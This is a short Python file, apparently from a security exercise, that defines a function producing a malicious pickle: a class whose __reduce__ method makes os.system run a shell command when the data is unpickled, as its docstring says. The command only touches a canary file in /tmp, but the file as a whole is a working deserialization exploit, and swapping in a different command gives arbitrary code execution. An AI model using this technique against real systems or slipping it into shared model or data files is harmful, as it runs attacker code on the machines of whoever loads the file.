import os
import pickle


def make(source, weights, pack):
    """Whoever opens it as a pickle runs it."""
    class Runs:
        def __reduce__(self):
            return os.system, ("touch /tmp/homework-attack-canary",)
    
    return source, pickle.dumps(Runs())
